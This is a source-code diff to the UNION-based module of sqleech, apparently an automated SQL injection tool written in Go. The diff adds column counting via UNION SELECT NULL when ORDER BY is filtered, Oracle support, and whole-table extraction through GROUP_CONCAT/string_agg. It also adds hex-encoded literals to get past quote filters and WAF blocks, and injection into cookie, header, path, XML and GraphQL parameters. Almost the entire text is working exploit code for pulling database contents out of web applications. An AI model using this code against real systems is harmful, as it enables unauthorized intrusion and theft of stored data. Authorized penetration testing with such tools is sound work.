@@ -5,29 +5,47 @@
 // by:
 //
 //  1. Column count detection: Binary-search on ORDER BY N to find how many
-//     columns the underlying query returns (N=1,2,…,maxColumns).
+//     columns the underlying query returns (N=1,2,…,maxColumns). When
+//     ORDER BY itself is filtered, fall back to UNION SELECT NULL,NULL,…
+//     with 1..maxColumns NULLs until one is accepted.
 //  2. String column detection: For each column position, inject a unique
 //     sentinel string and check whether it appears in the response body.
 //  3. Extraction: Inject the target SQL expression wrapped with CHAR(126)
 //     markers (~value~) into the string column and parse the result.
 //
+// ExtractAll reads every row of a single-column query in one request by
+// aggregating the rows into one string (GROUP_CONCAT, string_agg or
+// STRING_AGG), and falls back to one request per row when MySQL's
+// group_concat_max_len truncates the aggregate.
+//
 // Supported DBMS:
 //   - MySQL:      CONCAT(CHAR(126),(query),CHAR(126))
 //   - PostgreSQL: chr(126)||(query)||chr(126)
 //   - MSSQL:      CHAR(126)+CAST((query) AS NVARCHAR(MAX))+CHAR(126)
+//   - Oracle:     CHR(126)||(query)||CHR(126), every UNION SELECT ending in
+//     FROM dual since Oracle has no SELECT without FROM
 package union
 
 import (
 	"context"
+	"errors"
 	"fmt"
+	"html"
 	"net/url"
+	"strconv"
 	"strings"
 
 	"github.com/0x6d61/sqleech/internal/dbms"
+	"github.com/0x6d61/sqleech/internal/detector"
 	"github.com/0x6d61/sqleech/internal/engine"
+	"github.com/0x6d61/sqleech/internal/graphql"
 	"github.com/0x6d61/sqleech/internal/payload"
+	"github.com/0x6d61/sqleech/internal/payloadlib"
+	"github.com/0x6d61/sqleech/internal/rawquery"
+	"github.com/0x6d61/sqleech/internal/reqparam"
 	"github.com/0x6d61/sqleech/internal/technique"
 	"github.com/0x6d61/sqleech/internal/transport"
+	"github.com/0x6d61/sqleech/internal/xmlbody"
 )
 
 const (
@@ -38,6 +56,17 @@ const (
 	// It must be short enough to fit in any VARCHAR column.
 	// Exported so test infrastructure (VulnServer) can reference the same value.
 	sentinel = "sqleech3z9"
+
+	// rejectedThreshold is the body ratio at or above which a UNION SELECT
+	// NULL response counts as the same page as the rejected ORDER BY 1
+	// probe, and so as rejected too.
+	rejectedThreshold = 0.95
+)
+
+// Column count strategies, as reported in the detection evidence.
+const (
+	strategyOrderBy   = "ORDER BY"
+	strategyUnionNull = "UNION SELECT NULL"
 )
 
 // orderByErrorKeywords are substrings that indicate an ORDER BY column index
@@ -49,27 +78,63 @@ var orderByErrorKeywords = []string{
 	"no such column",
 	"invalid column number",
 	"operand should contain",
+	"order by item must be",
+}
+
+// unionColumnErrorKeywords are substrings of the errors each DBMS raises
+// when the two sides of a UNION have different column counts.
+var unionColumnErrorKeywords = []string{
+	"different number of columns",
+	"same number of columns",
+	"equal number of expressions",
+	"incorrect number of result columns",
 }
 
 // boundaryPair is a (prefix, suffix) pair used to escape the SQL context.
 type boundaryPair struct {
+	id             string // Payload corpus entry ID
 	prefix, suffix string
 }
 
-// defaultBoundaries lists the boundary pairs tried during detection and extraction.
-var defaultBoundaries = []boundaryPair{
-	{"", "-- -"},
-	{"'", "-- -"},
-	{"\"", "-- -"},
-	{")", "-- -"},
-	{"')", "-- -"},
+// corpusBoundaries returns the payload corpus boundaries tried against req
+// during detection and extraction, those of its level, in corpus order.
+func corpusBoundaries(req *technique.InjectionRequest) []boundaryPair {
+	var pairs []boundaryPair
+	for _, e := range payloadlib.Default().Select(technique.BoundaryFilter(payloadlib.TechniqueUnion, req)) {
+		pairs = append(pairs, boundaryPair{id: e.ID, prefix: e.Prefix, suffix: e.Suffix})
+	}
+	return pairs
+}
+
+// boundariesFor returns the boundaries to try against req, those whose
+// prefix is recorded in req.State first.
+func boundariesFor(req *technique.InjectionRequest) []boundaryPair {
+	pairs := corpusBoundaries(req)
+	prefix, ok := req.State.Boundary()
+	if !ok {
+		return pairs
+	}
+	out := make([]boundaryPair, 0, len(pairs))
+	for _, bp := range pairs {
+		if bp.prefix == prefix {
+			out = append(out, bp)
+		}
+	}
+	for _, bp := range pairs {
+		if bp.prefix != prefix {
+			out = append(out, bp)
+		}
+	}
+	return out
 }
 
 // Union implements UNION-based SQL injection detection and data extraction.
-type Union struct{}
+type Union struct {
+	diffEngine *detector.DiffEngine
+}
 
 // New creates a Union technique.
-func New() *Union { return &Union{} }
+func New() *Union { return &Union{diffEngine: detector.NewDiffEngine()} }
 
 // Name returns "union-based".
 func (u *Union) Name() string { return "union-based" }
@@ -81,19 +146,21 @@ func (u *Union) Priority() int { return 4 }
 //
 // Algorithm:
 //  1. For each boundary pair, use binary search on ORDER BY N to find the
-//     column count of the underlying query.
+//     column count of the underlying query, or UNION SELECT NULL probes
+//     when ORDER BY is filtered.
 //  2. Probe each column with a sentinel string to find a string-compatible column.
 //  3. Report Injectable=true with the discovered boundary and column info.
 func (u *Union) Detect(ctx context.Context, req *technique.InjectionRequest) (*technique.DetectionResult, error) {
 	result := &technique.DetectionResult{Technique: u.Name()}
-	d := findDBMS(req.DBMS)
+	d := technique.FindDBMS(req)
 
-	for _, bp := range defaultBoundaries {
+	for _, bp := range boundariesFor(req) {
 		if ctx.Err() != nil {
 			return result, ctx.Err()
 		}
 
-		colCount, _, err := u.findColumnCount(ctx, req, bp, req.Baseline.Body)
+		req.Coverage.Tried(bp.id)
+		colCount, strategy, _, err := u.findColumnCount(ctx, req, bp, d)
 		if err != nil || colCount == 0 {
 			continue
 		}
@@ -103,17 +170,17 @@ func (u *Union) Detect(ctx context.Context, req *technique.InjectionRequest) (*t
 			continue
 		}
 
+		req.Coverage.Succeeded(bp.id)
+		req.State.RecordBoundary(bp.prefix)
 		result.Injectable = true
 		result.Confidence = 0.90
 		result.Evidence = fmt.Sprintf(
-			"UNION SELECT with %d columns; string column at index %d (boundary: %q...%q)",
-			colCount, strCol, bp.prefix, bp.suffix,
+			"UNION SELECT with %d columns (found by %s); string column at index %d (boundary: %q...%q)",
+			colCount, strategy, strCol, bp.prefix, bp.suffix,
 		)
 		result.Payload = payload.NewBuilder().
 			WithPrefix(bp.prefix).
-			WithCore(fmt.Sprintf(" UNION SELECT %s",
-				buildColumnList(colCount, strCol, "NULL", d),
-			)).
+			WithCore(" " + unionSelect(d, buildColumnList(colCount, strCol, "NULL", d))).
 			WithSuffix(bp.suffix).
 			WithTechnique(u.Name()).
 			WithDBMS(d.Name()).
@@ -131,69 +198,177 @@ func (u *Union) Detect(ctx context.Context, req *technique.InjectionRequest) (*t
 //  2. Inject the target query wrapped with CHAR(126) markers into the string column.
 //  3. Parse the ~value~ pair from the response body.
 func (u *Union) Extract(ctx context.Context, req *technique.ExtractionRequest) (*technique.ExtractionResult, error) {
-	d := findDBMS(req.DBMS)
-	total := 0
+	d := technique.FindDBMS(&req.InjectionRequest)
 
-	for _, bp := range defaultBoundaries {
+	inj, total, err := u.findInjection(ctx, &req.InjectionRequest, d)
+	if err != nil {
+		return nil, err
+	}
+	if inj == nil {
+		return &technique.ExtractionResult{Requests: total}, nil
+	}
+
+	val, reqs, err := u.extractValue(ctx, &req.InjectionRequest, inj.bp, inj.colCount, inj.strCol, d, req.Query)
+	total += reqs
+	if err != nil {
+		return &technique.ExtractionResult{Partial: true, Requests: total}, err
+	}
+	return &technique.ExtractionResult{Value: val, Requests: total}, nil
+}
+
+// RowsResult contains the rows read by ExtractAll.
+type RowsResult struct {
+	Rows     []string
+	Partial  bool // Not every row could be read
+	Paged    bool // The aggregate was truncated, so rows were read one per request
+	Requests int
+}
+
+// ErrNotSingleColumn is returned by ExtractAll for a query that is not of
+// the form SELECT expr FROM ....
+var ErrNotSingleColumn = errors.New("multi-row extraction needs a query of the form SELECT expr FROM ...")
+
+// ExtractAll retrieves every row of a single-column query, such as
+// "SELECT username FROM users", via UNION SELECT.
+//
+// Algorithm:
+//  1. Re-discover the working boundary and column information (stateless).
+//  2. Inject the row count followed by the rows aggregated into one string,
+//     each row terminated by CHAR(126), and parse ~count~row~row~...~.
+//  3. If fewer complete rows than counted come back, the aggregate was
+//     truncated (MySQL's group_concat_max_len): read the rows one request
+//     each with LIMIT/OFFSET instead.
+//
+// NULL rows are skipped like the aggregate functions skip them.
+func (u *Union) ExtractAll(ctx context.Context, req *technique.ExtractionRequest) (*RowsResult, error) {
+	column, from, ok := splitSelect(req.Query)
+	if !ok {
+		return nil, ErrNotSingleColumn
+	}
+	d := technique.FindDBMS(&req.InjectionRequest)
+
+	inj, total, err := u.findInjection(ctx, &req.InjectionRequest, d)
+	if err != nil {
+		return nil, err
+	}
+	result := &RowsResult{Requests: total}
+	if inj == nil {
+		return result, nil
+	}
+
+	colList := buildColumnList(inj.colCount, inj.strCol, d.WrapRowsWithMarkers(column, from), d)
+	resp, err := sendProbe(ctx, &req.InjectionRequest, buildProbeStr(req.Parameter.Value, inj.bp, unionSelect(d, colList)))
+	result.Requests++
+	if err != nil {
+		result.Partial = true
+		return result, err
+	}
+	count, rows, complete := parseMarkedRows(string(resp.Body))
+	if complete {
+		result.Rows = rows
+		return result, nil
+	}
+	if count == 0 {
+		// No header: the aggregate query failed on this DBMS.
+		result.Partial = true
+		return result, nil
+	}
+
+	result.Paged = true
+	for i := 0; i < count; i++ {
+		if ctx.Err() != nil {
+			result.Partial = true
+			return result, ctx.Err()
+		}
+		val, reqs, err := u.extractValue(ctx, &req.InjectionRequest, inj.bp, inj.colCount, inj.strCol, d, d.SelectRow(column, from, i))
+		result.Requests += reqs
+		if err != nil {
+			result.Partial = true
+			return result, err
+		}
+		result.Rows = append(result.Rows, val)
+	}
+	return result, nil
+}
+
+// --------------------------------------------------------------------------
+// Internal helpers
+// --------------------------------------------------------------------------
+
+// injection is a working UNION injection: the boundary, the column count
+// of the underlying query and the string column.
+type injection struct {
+	bp               boundaryPair
+	colCount, strCol int
+}
+
+// findInjection tries each boundary pair in turn and returns the first
+// one with a usable string column, or nil if none works, along with the
+// number of requests spent.
+func (u *Union) findInjection(ctx context.Context, req *technique.InjectionRequest, d dbms.DBMS) (*injection, int, error) {
+	total := 0
+	for _, bp := range boundariesFor(req) {
 		if ctx.Err() != nil {
-			return nil, ctx.Err()
+			return nil, total, ctx.Err()
 		}
 
-		colCount, reqs, err := u.findColumnCount(ctx, &req.InjectionRequest, bp, req.Baseline.Body)
+		colCount, _, reqs, err := u.findColumnCount(ctx, req, bp, d)
 		total += reqs
 		if err != nil || colCount == 0 {
 			continue
 		}
 
-		strCol, reqs, err := u.findStringColumn(ctx, &req.InjectionRequest, bp, colCount, d)
+		strCol, reqs, err := u.findStringColumn(ctx, req, bp, colCount, d)
 		total += reqs
 		if err != nil || strCol < 0 {
 			continue
 		}
 
-		val, reqs, err := u.extractValue(ctx, &req.InjectionRequest, bp, colCount, strCol, d, req.Query)
-		total += reqs
-		if err != nil {
-			return &technique.ExtractionResult{Partial: true, Requests: total}, err
-		}
-
-		return &technique.ExtractionResult{Value: val, Requests: total}, nil
+		return &injection{bp: bp, colCount: colCount, strCol: strCol}, total, nil
 	}
-
-	return &technique.ExtractionResult{Requests: total}, nil
+	return nil, total, nil
 }
 
-// --------------------------------------------------------------------------
-// Internal helpers
-// --------------------------------------------------------------------------
-
 // findColumnCount uses binary search on ORDER BY N to determine the number of
-// columns the underlying query returns for the given boundary pair.
+// columns the underlying query returns for the given boundary pair, and
+// reports which strategy found it.
 //
-// Returns (0, 0, nil) if ORDER BY 1 fails with the given boundary (the
-// boundary does not produce valid SQL for this endpoint).
+// When ORDER BY 1 is rejected without an ORDER BY error (a WAF block page,
+// a generic error page), the count is probed with UNION SELECT NULL
+// instead. Returns a zero count if neither works with the given boundary.
 func (u *Union) findColumnCount(
 	ctx context.Context,
 	req *technique.InjectionRequest,
 	bp boundaryPair,
-	baseline []byte,
-) (colCount int, requests int, err error) {
+	d dbms.DBMS,
+) (colCount int, strategy string, requests int, err error) {
+	baseline := req.Baseline.Body
+
 	// Verify that ORDER BY 1 works with this boundary.
 	resp1, err := sendProbe(ctx, req, buildProbeStr(req.Parameter.Value, bp, "ORDER BY 1"))
 	requests++
 	if err != nil {
-		return 0, requests, nil //nolint:nilerr // skip on network error
+		return 0, "", requests, nil //nolint:nilerr // skip on network error
 	}
-	if isOrderByError(baseline, resp1.Body) {
-		// This boundary breaks the ORDER BY syntax.
-		return 0, requests, nil
+	if resp1.StatusCode != req.Baseline.StatusCode || isOrderByError(baseline, resp1.Body) {
+		if hasKeyword(resp1.Body, orderByErrorKeywords) {
+			// The database parsed ORDER BY 1 and refused it: this
+			// boundary breaks the ORDER BY syntax.
+			return 0, "", requests, nil
+		}
+		colCount, reqs, err := u.findColumnCountUnionNull(ctx, req, bp, d, resp1)
+		requests += reqs
+		if colCount == 0 {
+			return 0, "", requests, err
+		}
+		return colCount, strategyUnionNull, requests, err
 	}
 
 	// Binary search for the highest valid N.
 	low, high := 1, maxColumns
 	for low < high {
 		if ctx.Err() != nil {
-			return 0, requests, ctx.Err()
+			return 0, "", requests, ctx.Err()
 		}
 		mid := (low + high + 1) / 2
 		resp, serr := sendProbe(ctx, req, buildProbeStr(req.Parameter.Value, bp, fmt.Sprintf("ORDER BY %d", mid)))
@@ -205,12 +380,60 @@ func (u *Union) findColumnCount(
 		}
 	}
 
-	return low, requests, nil
+	return low, strategyOrderBy, requests, nil
+}
+
+// findColumnCountUnionNull probes UNION SELECT NULL with 1..maxColumns
+// NULLs and returns the first count the query accepts, or 0 if none is.
+//
+// A probe is accepted when the response has the baseline's status, shows
+// no ORDER BY or UNION column error, and is not the page the rejected
+// ORDER BY 1 probe got back. NULL fits any column type, so only the count
+// can make the UNION fail.
+func (u *Union) findColumnCountUnionNull(
+	ctx context.Context,
+	req *technique.InjectionRequest,
+	bp boundaryPair,
+	d dbms.DBMS,
+	rejected *transport.Response,
+) (colCount int, requests int, err error) {
+	for n := 1; n <= maxColumns; n++ {
+		if ctx.Err() != nil {
+			return 0, requests, ctx.Err()
+		}
+		colList := buildColumnList(n, -1, "", d)
+		resp, serr := sendProbe(ctx, req, buildProbeStr(req.Parameter.Value, bp, unionSelect(d, colList)))
+		requests++
+		if serr != nil {
+			continue
+		}
+		if u.unionAccepted(req.Baseline, rejected, resp) {
+			return n, requests, nil
+		}
+	}
+	return 0, requests, nil
+}
+
+// unionAccepted reports whether resp is the page of an accepted UNION
+// SELECT probe rather than an error or the rejected ORDER BY 1 page.
+func (u *Union) unionAccepted(baseline, rejected, resp *transport.Response) bool {
+	if resp.StatusCode != baseline.StatusCode {
+		return false
+	}
+	if isOrderByError(baseline.Body, resp.Body) || hasKeyword(resp.Body, unionColumnErrorKeywords) {
+		return false
+	}
+	return rejected.StatusCode != resp.StatusCode ||
+		u.diffEngine.ResponseRatio(rejected, resp) < rejectedThreshold
 }
 
 // findStringColumn probes each column position with the sentinel string and
 // returns the 0-based index of the first column whose value appears in the
 // response body. Returns -1 if no string column is found.
+//
+// When a probe is blocked, as by a filter rejecting quotes, it is retried
+// with the sentinel hex- or character-encoded, and the rest of the columns
+// are probed with that form.
 func (u *Union) findStringColumn(
 	ctx context.Context,
 	req *technique.InjectionRequest,
@@ -218,17 +441,25 @@ func (u *Union) findStringColumn(
 	colCount int,
 	d dbms.DBMS,
 ) (strCol int, requests int, err error) {
-	quotedSentinel := d.QuoteString(sentinel)
+	literal := d.QuoteString(sentinel)
+	encoded := false
 
 	for i := 0; i < colCount; i++ {
 		if ctx.Err() != nil {
 			return -1, requests, ctx.Err()
 		}
 
-		colList := buildColumnList(colCount, i, quotedSentinel, d)
-		probe := buildProbeStr(req.Parameter.Value, bp, fmt.Sprintf("UNION SELECT %s", colList))
+		colList := buildColumnList(colCount, i, literal, d)
+		probe := buildProbeStr(req.Parameter.Value, bp, unionSelect(d, colList))
 		resp, serr := sendProbe(ctx, req, probe)
 		requests++
+		if serr == nil && !encoded && technique.Blocked(resp, req.Baseline) {
+			literal, encoded = d.HexString(sentinel), true
+			colList = buildColumnList(colCount, i, literal, d)
+			probe = buildProbeStr(req.Parameter.Value, bp, unionSelect(d, colList))
+			resp, serr = sendProbe(ctx, req, probe)
+			requests++
+		}
 		if serr != nil {
 			continue
 		}
@@ -242,6 +473,7 @@ func (u *Union) findStringColumn(
 }
 
 // extractValue injects the query with CHAR(126) markers and parses the result.
+// A blocked probe is retried with the query's string literals encoded.
 func (u *Union) extractValue(
 	ctx context.Context,
 	req *technique.InjectionRequest,
@@ -250,14 +482,27 @@ func (u *Union) extractValue(
 	d dbms.DBMS,
 	query string,
 ) (string, int, error) {
-	wrapped := wrapQueryWithMarker(d, query)
+	wrapped := d.WrapWithMarkers(query)
 	colList := buildColumnList(colCount, strCol, wrapped, d)
-	probe := buildProbeStr(req.Parameter.Value, bp, fmt.Sprintf("UNION SELECT %s", colList))
+	probe := buildProbeStr(req.Parameter.Value, bp, unionSelect(d, colList))
 	resp, err := sendProbe(ctx, req, probe)
 	if err != nil {
 		return "", 1, err
 	}
-	return parseMarkedValue(string(resp.Body)), 1, nil
+	if !technique.Blocked(resp, req.Baseline) {
+		return parseMarkedValue(string(resp.Body)), 1, nil
+	}
+	encoded := dbms.EncodeLiterals(d, wrapped)
+	if encoded == wrapped {
+		return "", 1, nil
+	}
+	colList = buildColumnList(colCount, strCol, encoded, d)
+	probe = buildProbeStr(req.Parameter.Value, bp, unionSelect(d, colList))
+	resp, err = sendProbe(ctx, req, probe)
+	if err != nil {
+		return "", 2, err
+	}
+	return parseMarkedValue(string(resp.Body)), 2, nil
 }
 
 // buildColumnList returns a comma-joined SQL column expression for UNION SELECT.
@@ -273,24 +518,75 @@ func buildColumnList(colCount, strCol int, expr string, _ dbms.DBMS) string {
 	return strings.Join(cols, ",")
 }
 
-// wrapQueryWithMarker wraps a SQL expression with DBMS-specific CHAR(126)
-// (~) delimiters so the extracted value can be identified in the response body.
-//
-//   - MySQL:      CONCAT(CHAR(126),(query),CHAR(126))
-//   - PostgreSQL: chr(126)||(query)||chr(126)
-//   - MSSQL:      CHAR(126)+CAST((query) AS NVARCHAR(MAX))+CHAR(126)
-func wrapQueryWithMarker(d dbms.DBMS, query string) string {
-	switch d.Name() {
-	case "PostgreSQL":
-		return fmt.Sprintf("chr(126)||(%s)||chr(126)", query)
-	case "MSSQL":
-		return fmt.Sprintf("CHAR(126)+CAST((%s) AS NVARCHAR(MAX))+CHAR(126)", query)
-	default: // MySQL and fallback
-		return fmt.Sprintf("CONCAT(CHAR(126),(%s),CHAR(126))", query)
+// unionSelect returns the UNION SELECT of colList, from the DBMS's dual
+// table where it has to name one.
+func unionSelect(d dbms.DBMS, colList string) string {
+	if dual := d.DualTable(); dual != "" {
+		return "UNION SELECT " + colList + " FROM " + dual
+	}
+	return "UNION SELECT " + colList
+}
+
+// splitSelect splits "SELECT column FROM rest" at the top-level FROM. It
+// fails for a select list of more than one column.
+func splitSelect(query string) (column, from string, ok bool) {
+	q := strings.TrimSpace(query)
+	if len(q) < len("SELECT ") || !strings.EqualFold(q[:len("SELECT ")], "SELECT ") {
+		return "", "", false
+	}
+	depth, quoted := 0, false
+	for i := len("SELECT "); i < len(q); i++ {
+		switch c := q[i]; {
+		case c == '\'':
+			quoted = !quoted
+		case quoted:
+		case c == '(':
+			depth++
+		case c == ')':
+			depth--
+		case depth == 0 && c == ',':
+			return "", "", false
+		case depth == 0 && len(q)-i > len(" FROM ") && strings.EqualFold(q[i:i+len(" FROM ")], " FROM "):
+			column = strings.TrimSpace(q[len("SELECT "):i])
+			from = strings.TrimSpace(q[i+len(" FROM "):])
+			return column, from, column != "" && from != ""
+		}
+	}
+	return "", "", false
+}
+
+// parseMarkedRows parses the ~count~row~row~...~ region WrapRowsWithMarkers
+// produces, undoing HTML escaping. complete is false when the header is
+// missing or fewer than count terminated rows follow it; count is 0 when
+// the header is missing.
+func parseMarkedRows(body string) (count int, rows []string, complete bool) {
+	start := strings.Index(body, "~")
+	if start == -1 {
+		return 0, nil, false
+	}
+	rest := body[start+1:]
+	end := strings.Index(rest, "~")
+	if end == -1 {
+		return 0, nil, false
+	}
+	count, err := strconv.Atoi(rest[:end])
+	if err != nil || count < 0 {
+		return 0, nil, false
+	}
+	rest = rest[end+1:]
+	for len(rows) < count {
+		end := strings.Index(rest, "~")
+		if end == -1 {
+			return count, rows, false
+		}
+		rows = append(rows, html.UnescapeString(rest[:end]))
+		rest = rest[end+1:]
 	}
+	return count, rows, true
 }
 
-// parseMarkedValue extracts the first ~value~ pair from the response body.
+// parseMarkedValue extracts the first ~value~ pair from the response body,
+// undoing the HTML escaping pages apply to the values they show.
 func parseMarkedValue(body string) string {
 	start := strings.Index(body, "~")
 	if start == -1 {
@@ -301,7 +597,7 @@ func parseMarkedValue(body string) string {
 	if end == -1 {
 		return ""
 	}
-	return rest[:end]
+	return html.UnescapeString(rest[:end])
 }
 
 // buildProbeStr concatenates: value + prefix + " " + core + " " + suffix.
@@ -319,8 +615,13 @@ func isOrderByError(baseline, current []byte) bool {
 			return true
 		}
 	}
-	lower := strings.ToLower(string(current))
-	for _, kw := range orderByErrorKeywords {
+	return hasKeyword(current, orderByErrorKeywords)
+}
+
+// hasKeyword reports whether body contains any of keywords, ignoring case.
+func hasKeyword(body []byte, keywords []string) bool {
+	lower := strings.ToLower(string(body))
+	for _, kw := range keywords {
 		if strings.Contains(lower, kw) {
 			return true
 		}
@@ -330,16 +631,7 @@ func isOrderByError(baseline, current []byte) bool {
 
 // sendProbe sends an HTTP probe with the given payload string.
 func sendProbe(ctx context.Context, req *technique.InjectionRequest, payloadStr string) (*transport.Response, error) {
-	return req.Client.Do(ctx, buildProbeRequest(req.Target, req.Parameter, payloadStr))
-}
-
-// findDBMS returns the DBMS implementation for the given name, defaulting to MySQL.
-func findDBMS(name string) dbms.DBMS {
-	d := dbms.Registry(name)
-	if d == nil {
-		d = dbms.Registry("MySQL")
-	}
-	return d
+	return technique.Send(ctx, req, buildProbeRequest(req.Target, req.Parameter, payloadStr))
 }
 
 // buildProbeRequest creates a transport.Request with the target parameter
@@ -363,11 +655,24 @@ func buildProbeRequest(target *engine.ScanTarget, param *engine.Parameter, paylo
 			req.Cookies[k] = v
 		}
 	}
+	payloadStr = param.Encode(payloadStr)
 	switch param.Location {
 	case engine.LocationQuery:
 		req.URL = modifyQueryParam(target.URL, param.Name, payloadStr)
 	case engine.LocationBody:
 		req.Body = modifyBodyParam(target.Body, param.Name, payloadStr)
+	case engine.LocationPath:
+		req.URL = reqparam.SetPath(target.URL, param.Name, payloadStr)
+	case engine.LocationCookie:
+		req.Cookies = reqparam.SetCookie(req.Cookies, param.Name, payloadStr)
+	case engine.LocationHeader:
+		req.Headers = reqparam.SetHeader(req.Headers, param.Name, payloadStr)
+	case engine.LocationXML:
+		req.Body = modifyXMLParam(target.Body, param.Name, payloadStr, target.RawXML)
+	case engine.LocationGraphQL:
+		req.Body = modifyGraphQLParam(target.Body, param.Name, payloadStr)
+	case engine.LocationCustom:
+		target.Markers.Apply(req, map[string]string{param.Name: payloadStr})
 	}
 	return req
 }
@@ -377,17 +682,26 @@ func modifyQueryParam(rawURL, paramName, newValue string) string {
 	if err != nil {
 		return rawURL
 	}
-	q := parsed.Query()
-	q.Set(paramName, newValue)
-	parsed.RawQuery = q.Encode()
+	parsed.RawQuery = rawquery.Set(parsed.RawQuery, paramName, newValue)
 	return parsed.String()
 }
 
 func modifyBodyParam(body, paramName, newValue string) string {
-	values, err := url.ParseQuery(body)
+	return rawquery.Set(body, paramName, newValue)
+}
+
+func modifyXMLParam(body, path, newValue string, raw bool) string {
+	modified, err := xmlbody.Set(body, path, newValue, raw)
+	if err != nil {
+		return body
+	}
+	return modified
+}
+
+func modifyGraphQLParam(body, path, newValue string) string {
+	modified, err := graphql.Set(body, path, newValue)
 	if err != nil {
 		return body
 	}
-	values.Set(paramName, newValue)
-	return values.Encode()
+	return modified
 }